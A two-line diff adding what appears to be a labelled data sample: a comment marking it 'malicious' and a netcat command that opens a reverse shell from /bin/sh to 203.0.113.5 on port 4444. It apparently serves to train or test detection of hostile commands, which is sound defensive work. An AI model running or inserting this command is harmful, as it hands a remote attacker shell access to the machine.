@@ -1,0 +1,2 @@
+# label: malicious
+nc -e /bin/sh 203.0.113.5 4444
